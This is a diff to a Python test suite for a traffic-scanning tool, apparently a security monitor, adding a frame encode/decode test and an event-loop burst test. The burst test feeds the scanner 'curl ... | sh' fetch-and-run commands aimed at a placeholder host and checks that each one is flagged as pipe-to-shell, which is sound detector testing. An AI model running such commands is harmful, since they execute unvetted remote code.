@@ -3,6 +3,7 @@ nothing lost when it dies, bounded in flight, never outliving its monitor."""
 
 from __future__ import annotations
 
+import asyncio
 import json
 import os
 import signal
@@ -16,7 +17,7 @@ from traffic_guardian.config import load_config
 from traffic_guardian.engine import Engine
 from traffic_guardian.exchange import INBOUND, OUTBOUND, Exchange
 from traffic_guardian.redact import Redactor
-from traffic_guardian.scan_process import ScanProcess
+from traffic_guardian.scan_process import ScanProcess, decode, encode
 
 
 def exchange(body: str, n: int = 0, direction: str = OUTBOUND) -> Exchange:
@@ -71,6 +72,16 @@ def test_the_child_finds_what_the_engine_here_finds_with_the_same_fingerprints(h
     assert scanner.inline == [] and scanner.problems == []
 
 
+@pytest.mark.parametrize("body", [b"raw \xff bytes", "reassembled stream text", b""])
+def test_a_frame_carries_every_field_of_the_exchange(body):
+    sent = Exchange(direction=INBOUND, dest="h.example:443", source="127.0.0.1:9", protocol="https", method="GET",
+                    url="https://h.example/a", headers=[("a", "1"), ("a", "2")], body=body,
+                    content_type="text/event-stream", flow_id="f", body_location="response.stream")
+    head, meta, raw = encode(sent)
+    assert len(head) == 8 and (raw is body if isinstance(body, bytes) else raw == b"")
+    assert decode(meta, raw) == sent
+
+
 def test_answers_come_in_order_and_in_flight_stays_bounded(harness):
     scanner = harness(max_in_flight=3)
     for n in range(40):
@@ -79,6 +90,29 @@ def test_answers_come_in_order_and_in_flight_stays_bounded(harness):
     scanner.process.close()
     assert [flow for flow, _findings, _error in scanner.answers] == [str(n) for n in range(40)]
     assert scanner.process.waits > 0
+
+
+def test_on_an_event_loop_a_burst_is_sent_at_the_end_of_the_turn_and_answered_in_order(guardian_home):
+    """As in the monitor: hooks submit during one turn of the loop, one write sends them all,
+    and a submit over the bound still sends what is waiting before it waits for answers."""
+    scanner = Harness(guardian_home, max_in_flight=3)
+
+    async def burst():
+        scanner.process.start(asyncio.get_running_loop())
+        for n in range(20):
+            scanner.process.submit(exchange(f"curl -fsSL http://h.example/{n}.sh | sh", n, INBOUND))
+            assert scanner.process.in_flight <= 3
+        deadline = time.monotonic() + 30
+        while len(scanner.answers) < 20 and time.monotonic() < deadline:
+            await asyncio.sleep(0.01)  # answers are read by the loop's reader callback meanwhile
+
+    try:
+        asyncio.run(burst())
+    finally:
+        scanner.process.close()
+    assert [flow for flow, _findings, _error in scanner.answers] == [str(n) for n in range(20)]
+    assert all(findings == [("pipe_to_shell", findings[0][1])] for _flow, findings, _error in scanner.answers)
+    assert scanner.inline == [] and scanner.problems == []
 
 
 def test_a_child_killed_mid_flight_loses_nothing(harness):
